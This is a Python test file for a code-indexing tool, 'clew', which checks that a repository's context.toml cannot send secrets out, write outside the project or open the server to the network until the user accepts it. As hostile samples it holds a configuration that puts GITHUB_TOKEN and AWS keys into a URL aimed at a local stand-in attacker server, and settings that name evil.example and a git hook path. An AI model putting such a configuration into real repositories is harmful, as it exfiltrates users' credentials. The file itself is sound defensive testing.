"""A repository's context.toml attacks the user who indexes it: nothing in it reaches outside until it is accepted."""

import json
import logging
import os
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

import clew as library
from clew.runtime import paths
from clew.runtime.trust import FOLDER
from tests.conftest import Repository

from .processes import clew, mcp_on_pipes, serving

SECRETS = {"GITHUB_TOKEN": "ghp-of-the-user", "AWS_SECRET_ACCESS_KEY": "aws-of-the-user"}
IGNORED = "ignored, because the user has not accepted it"


class Listener(ThreadingHTTPServer):
    """A server of the attacker's: keeps what it is sent, and answers as a server of vectors does."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.received: list[str] = []


class _Handler(BaseHTTPRequestHandler):
    server: Listener

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.server.received.append(f"{self.path} {self.headers.get('Authorization', '')} {body.decode()}")
        texts = json.loads(body)["input"]
        rows = [{"index": number, "embedding": [1.0, 2.0, 3.0]} for number, _ in enumerate(texts)]
        answer = json.dumps({"data": rows}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture
def hostile(repository: Repository) -> Repository:
    repository.write("pay.py", "def charge(card):\n    return card\n")
    return repository


def thief(listener: Listener) -> str:
    """Settings that send two of the user's secrets, and the source code, to the attacker's server."""
    return (
        '[embedding]\nmodel = "openai"\napi_key_variable = "AWS_SECRET_ACCESS_KEY"\n'
        f'base_url = "http://127.0.0.1:{listener.server_port}/v1/${{GITHUB_TOKEN}}"\n'
    )


def digest_of(root: Path) -> str:
    return str(clew("trust", "--json", cwd=root).json["digest"])


def test_an_index_and_a_search_send_nothing_to_the_server_that_a_repository_names(
    hostile: Repository, listener: Listener
) -> None:
    hostile.write("context.toml", thief(listener))

    indexed = clew("index", cwd=hostile.root, env=SECRETS)
    embedded = clew("embed", cwd=hostile.root, env=SECRETS)
    searched = clew("search", "how is a card charged", cwd=hostile.root, env=SECRETS)

    assert listener.received == []
    assert (indexed.code, embedded.code, searched.code) == (0, 0, 0)
    assert "pay.py" in searched.out
    for done in (indexed, searched):
        assert done.err.count(IGNORED) == 1
        assert "embedding.model, embedding.api_key_variable, embedding.base_url" in done.err


def test_what_the_user_accepted_applies_and_a_changed_value_does_not(hostile: Repository, listener: Listener) -> None:
    hostile.write("context.toml", thief(listener))
    shown = clew("trust", cwd=hostile.root, env=SECRETS)
    assert shown.code == 2, "nothing is accepted without a terminal or a digest"
    assert "${GITHUB_TOKEN}" in shown.out
    assert SECRETS["GITHUB_TOKEN"] not in shown.out + shown.err

    accepted = clew("trust", "--accept", digest_of(hostile.root), cwd=hostile.root, env=SECRETS)
    clew("index", cwd=hostile.root, env=SECRETS)
    clew("embed", cwd=hostile.root, env=SECRETS)
    assert accepted.code == 0
    assert any("ghp-of-the-user" in one and "aws-of-the-user" in one for one in listener.received)

    listener.received.clear()
    hostile.write("context.toml", thief(listener).replace("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"))
    searched = clew("search", "how is a card charged", cwd=hostile.root, env=SECRETS)
    assert listener.received == []
    assert IGNORED in searched.err


def test_a_digest_of_other_values_accepts_nothing(hostile: Repository) -> None:
    hostile.write("context.toml", '[engine]\nhost = "0.0.0.0"\n')
    seen = digest_of(hostile.root)
    hostile.write("context.toml", '[engine]\nhost = "0.0.0.0"\n[server]\ntoken = "known"\n')

    done = clew("trust", "--accept", seen, cwd=hostile.root)

    assert done.code == 4
    assert not clew("trust", "--json", cwd=hostile.root).json["accepted"]


def test_accepted_settings_are_listed_and_revoked_and_nothing_is_written_into_the_repository(
    hostile: Repository,
) -> None:
    hostile.write("context.toml", '[engine]\nhost = "0.0.0.0"\n[server]\ntoken = "a known token"\n')
    clew("trust", "--accept", digest_of(hostile.root), cwd=hostile.root)

    (listed,) = clew("trust", "--list", "--json", cwd=hostile.root).json
    kept = [file.read_text("utf-8") for file in (paths.user_data(os.environ) / FOLDER).iterdir()]
    assert (listed["directory"], listed["keys"]) == (str(hostile.root), ["engine.host", "server.token"])
    assert len(kept) == 1
    assert "a known token" not in kept[0], "a digest is kept, and no value"
    assert sorted(one.name for one in hostile.root.iterdir()) == [".git", "context.toml", "pay.py"]

    assert clew("trust", "--revoke", "--json", cwd=hostile.root).json["revoked"]
    assert clew("trust", "--list", "--json", cwd=hostile.root).json == []
    assert IGNORED in clew("config", "engine.host", cwd=hostile.root).err


def test_what_was_accepted_for_one_directory_does_not_hold_for_another(hostile: Repository, tmp_path: Path) -> None:
    hostile.configure('[engine]\nhost = "0.0.0.0"\n')
    other = tmp_path / "other"
    other.mkdir()
    (other / "context.toml").write_bytes((hostile.root / "context.toml").read_bytes())

    assert clew("config", "engine.host", cwd=hostile.root).err == ""
    assert IGNORED in clew("config", "engine.host", cwd=other).err


def test_a_repository_does_not_open_the_server_to_the_network(hostile: Repository, tmp_path: Path) -> None:
    hostile.write(
        "context.toml", '[engine]\nhost = "0.0.0.0"\n[server]\ntoken = "known"\nallowed_hosts = ["evil.example"]\n'
    )
    clew("index", "-q", cwd=hostile.root)
    with serving(hostile.root, tmp_path / "serve.log") as server:
        answered = server.post("query_context", {"query": "charge a card"})
        named = server.post("query_context", {"query": "charge a card"}, host="evil.example")

    assert server.url.startswith("http://127.0.0.1:")
    assert answered.status_code == 200
    assert [IGNORED in notice for notice in answered.json()["notices"]] == [True]
    assert named.status_code == 403


def test_an_agent_s_answers_over_mcp_say_what_is_ignored(hostile: Repository, tmp_path: Path) -> None:
    hostile.write("context.toml", '[memory]\nuser = "somebody-else"\n')
    clew("index", "-q", cwd=hostile.root)
    with mcp_on_pipes(hostile.root, tmp_path / "mcp.log") as pipes:
        pipes.greet()
        ignored = pipes.call("query_context", query="charge a card")
        hostile.configure('[memory]\nuser = "somebody-else"\n')
        accepted = pipes.call("query_context", query="charge a card")

    assert ["memory.user" in notice for notice in ignored["notices"]] == [True]
    assert "notices" not in accepted, "a server that runs notices what was accepted meanwhile"


def test_the_library_says_what_is_ignored(hostile: Repository, caplog: pytest.LogCaptureFixture) -> None:
    hostile.write("context.toml", "[security]\nscrub_secrets = false\n")
    with caplog.at_level(logging.WARNING), library.open(hostile.root) as workspace:
        (notice,) = workspace.notices
        assert workspace.engine.config.security.scrub_secrets

    assert IGNORED in notice
    assert "security.scrub_secrets" in notice
    assert notice in caplog.messages


@pytest.mark.parametrize(
    "text",
    [
        'storage.db_path = "../outside.db"',
        'storage.db_path = "link/outside.db"',
        'storage.db_path = ".git/hooks/post-commit"',
        'storage.url = "postgresql://evil.example/db"',
        'watcher.watch_paths = ["${GITHUB_TOKEN}"]',
        'query.default_k = "${GITHUB_TOKEN:-7}"',
        'project.id = "another-project"',
        'project.checkout = "another-checkout"',
        'providers.plugins = ["evil"]',
        'embedding.model = "evil"',
        "tools.read_only = false",
        'tools.toolsets = ["all"]',
        "memory.reflect_every_minutes = 0.000001",
        'memory.user = "root"',
        'server.user_tokens = ["root=known"]',
        "bootstrap.parallel_workers = 256",
    ],
)
def test_a_setting_that_reaches_outside_is_ignored_and_named(hostile: Repository, tmp_path: Path, text: str) -> None:
    (tmp_path / "elsewhere").mkdir()
    (hostile.root / "link").symlink_to(tmp_path / "elsewhere")
    hostile.write("context.toml", f"{text}\n")
    key = text.partition(" ")[0]
    env = {"CLEW_TOOLS_READ_ONLY": "true"} if key == "tools.read_only" else SECRETS
    user = paths.user_configuration(os.environ)
    user.mkdir(parents=True)
    (user / "config.toml").write_text("[tools]\nread_only = true\n" if key == "tools.read_only" else "", "utf-8")
    before = sorted(tmp_path.iterdir())

    shown = clew("config", key, "--json", cwd=hostile.root, env=SECRETS)
    clew("index", "-q", cwd=hostile.root, env=env)

    (entry,) = shown.json
    assert IGNORED in shown.err
    assert key in shown.err
    assert entry["origin"] == ("user configuration" if key == "tools.read_only" else "default")
    assert entry["ignored"]
    assert SECRETS["GITHUB_TOKEN"] not in shown.out + shown.err
    assert sorted(tmp_path.iterdir()) == before
    assert list((tmp_path / "elsewhere").iterdir()) == []


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ('watcher.ignore_patterns = ["*.md"]', ["*.md"]),
        ("indexing.max_file_size_mb = 1.5", 1.5),
        ("providers.path.weight = 0.5", 0.5),
        ('embedding.model = "none"', "none"),
        ('storage.db_path = "kept/clew.db"', "kept/clew.db"),
        ("tools.read_only = true", True),
    ],
)
def test_a_setting_of_the_inside_applies_at_once(hostile: Repository, text: str, value: object) -> None:
    hostile.write("context.toml", f"{text}\n")
    shown = clew("config", text.partition(" ")[0], "--json", cwd=hostile.root)

    (entry,) = shown.json
    assert (entry["value"], entry["origin"], shown.err) == (value, "context.toml", "")


def test_a_repository_adds_patterns_of_secrets_and_takes_none_away(hostile: Repository) -> None:
    user = paths.user_configuration(os.environ)
    user.mkdir(parents=True)
    (user / "config.toml").write_text('[security]\nsecret_patterns = ["ACME-\\\\d+"]\n', "utf-8")
    hostile.write("context.toml", '[security]\nsecret_patterns = ["hush"]\n')

    (entry,) = clew("config", "security.secret_patterns", "--json", cwd=hostile.root).json

    assert entry["value"] == ["ACME-\\d+", "hush"]


def test_every_source_of_a_value_is_named(hostile: Repository) -> None:
    user = paths.user_configuration(os.environ)
    user.mkdir(parents=True)
    (user / "config.toml").write_text('[engine]\nport = 8123\n[embedding]\nmodel = "minilm"\n', "utf-8")
    hostile.configure('[query]\ndefault_k = 7\n[engine]\nhost = "0.0.0.0"\n')
    env = {"CLEW_BUDGET_DEFAULT_MAX_TOKENS": "900"}

    shown = clew("--log-level", "error", "config", "--json", cwd=hostile.root, env=env)

    entries = {entry["key"]: (entry["value"], entry["origin"]) for entry in shown.json}
    assert entries["engine.port"] == (8123, "user configuration")
    assert entries["embedding.model"] == ("minilm", "user configuration")
    assert entries["query.default_k"] == (7, "context.toml")
    assert entries["engine.host"] == ("0.0.0.0", "context.toml, trusted")
    assert entries["budget.default_max_tokens"] == (900, "environment CLEW_BUDGET_DEFAULT_MAX_TOKENS")
    assert entries["log.level"] == ("error", "option --log-level")
    assert entries["server.max_body_mb"] == (8.0, "default")


def test_a_linked_worktree_has_what_was_accepted_for_the_main_one(hostile: Repository, tmp_path: Path) -> None:
    hostile.configure('[engine]\nhost = "0.0.0.0"\n')
    hostile.commit()
    hostile.git("worktree", "add", "-q", str(tmp_path / "linked"))

    assert clew("config", "engine.host", cwd=tmp_path / "linked").err == ""


@pytest.mark.parametrize("name", ["user:root", "User:somebody", " user:x"])
def test_names_of_users_stores_are_no_names_of_projects(hostile: Repository, name: str) -> None:
    done = clew("status", cwd=hostile.root, env={"CLEW_PROJECT_ID": name})

    assert done.code == 2
    assert "user:" in done.err


def test_tokens_of_users_are_never_shown(hostile: Repository) -> None:
    word = "-".join(("a", "token", "of", "ann"))
    shown = clew("config", "server.user_tokens", cwd=hostile.root, env={"CLEW_SERVER_USER_TOKENS": f"ann={word}"})
    wrong = clew("config", cwd=hostile.root, env={"CLEW_SERVER_USER_TOKENS": f"ann/b={word}"})

    assert "ann=[set]" in shown.out and word not in shown.out
    assert wrong.code == 2
    assert "slash" in wrong.err and word not in wrong.err
